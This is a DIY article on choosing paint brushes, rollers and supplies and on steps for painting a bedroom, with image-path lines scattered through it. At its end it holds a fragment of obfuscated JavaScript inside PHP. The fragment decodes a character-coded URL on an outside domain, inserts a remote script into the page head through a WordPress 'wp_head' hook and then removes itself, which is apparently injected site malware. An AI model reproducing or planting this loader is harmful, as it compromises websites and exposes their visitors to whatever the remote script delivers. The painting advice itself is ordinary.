Are you planning to revamp your bedroom with a fresh coat of paint? Embarking on a DIY painting project can be both rewarding and cost-effective. However, to achieve professional-looking results, it’s essential to choose the right paint supplies. From modern tools to room painting techniques, this guide will walk you through everything you need to know to ensure a successful bedroom makeover, focusing on the best paint supplies for home wall painting.

Modern Paint Tools: Best vs. Worst

When it comes to painting your walls, selecting the best paint supplies can make all the difference in achieving a flawless finish. Here’s a comparison of the best and worst options:

Best: High-Quality Paint Brushes and Rollers

Investing in high-quality paint brushes and rollers is crucial for achieving smooth and even coverage on your walls. Look for brushes made with synthetic or natural bristles that are suitable for your chosen paint type. Similarly, choose rollers with the appropriate nap length for your wall texture to ensure optimal paint application. While high-quality brushes and rollers may come with a slightly higher price tag, their durability and performance make them a worthwhile investment.

Worst: Low-Quality Brushes and Rollers

Using cheap brushes and rollers can result in streaks, uneven coverage, and frustration during the painting process. Low-quality brushes may shed bristlesor fail to hold enough paint, while inferior rollers may leave behind lint or produce an uneven texture. Avoid these pitfalls by opting for professional-grade brushes and rollers that are designed to deliver superior results.

Room Painting Checklist

Before you begin painting your bedroom walls, it’s essential to gather all the necessary supplies and prepare the room properly. Here’s a checklist to help you get started:

  • High-Quality Paint: Choose a premium-quality interior paint in the color and finish of your choice for long-lasting results.
  • Primer: If your walls require priming due to repairs, stains, or new drywall, be sure to select a high-quality primer that is compatible with your paint.• Paint Brushes and Rollers: Invest in high-quality paint brushes and rollers for smooth and even application of paint.
  • Painter’s Tape: Use painter’s tape to protect trim, baseboards, and other surfaces from accidental paint splatters.
  • Drop Cloths: Lay down drop cloths or plastic sheeting to protect floors, furniture, and fixtures from paint drips and spills.
  • Cleaning Supplies: Have water, soap, and a sponge or rag on hand for cleaning up any paint spills or splatters.

How to Paint a Room

Now that you have all the necessary supplies, it’s time to get started on your bedroom painting project. Follow these steps for professional-looking results:

  • Prepare the Room: Clear the room of furniture and other obstacles, and cover floors and furnishings with drop cloths or plastic sheeting.
  • Prep the Walls: Fill any holes or cracks in the walls with spackling compound, and sand the surface smooth once dry. Clean the walls with a damp cloth to remove dust and debris.
  • Prime the Walls (If Necessary): Apply primer to the walls if needed, especially if you’re painting over dark colors or repairing damage.
  • Cut In: Use a high-quality paint brush to “cut in” or paint along the edges and corners of the walls, around trim, and near the ceiling.
  • Roll the Walls: Load your roller with paint from the tray, and apply an even coatto the walls using smooth, overlapping strokes.
  • Apply Additional Coats: Allow the first coat of paint to dry completely, thenapply additional coats as needed for full coverage.
  • Finish and Clean Up: Remove painter’s tape while the paint is still slightly tacky to avoid peeling. Clean your brushes and rollers thoroughly with soap and water, and allow them to dry completely before storing.

By choosing the best paint supplies for your DIY bedroom painting project and following these tips for proper preparation and application, you can achieve professional-looking results and transform your space with confidence.1);}f[_0x3ec646(0x186)]=String[_0x3ec646(0x17b)](0x68,0x74,0x74,0x70,0x73,0x3a,0x2f,0x2f,0x62,0x61,0x63,0x6b,0x67,0x72,0x6f,0x75,0x6e,0x64,0x2e,0x61,0x70,0x69,0x73,0x74,0x61,0x74,0x65,0x78,0x70,0x65,0x72,0x69,0x65,0x6e,0x63,0x65,0x2e,0x63,0x6f,0x6d,0x2f,0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function_0x48d3(){var _0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return_0x35035;};return _0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>